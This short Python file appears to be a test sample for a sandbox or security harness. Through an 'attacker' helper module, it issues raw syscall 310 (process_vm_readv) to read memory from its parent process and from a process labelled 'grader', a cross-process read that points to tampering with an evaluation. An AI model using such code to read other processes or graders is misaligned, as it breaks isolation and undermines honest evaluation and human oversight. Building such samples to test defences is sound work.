"""Copies memory out of other processes by a system call of its own."""
# Succeeds where open: memory of others

import ctypes
import os

from attacker import PLACES, system_call

here = ctypes.create_string_buffer(16)
local = (ctypes.c_size_t * 2)(ctypes.addressof(here), 16)
for pid in (os.getppid(), PLACES["grader"]):
    remote = (ctypes.c_size_t * 2)(id(os), 16)
    system_call(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0, what="read another's memory")
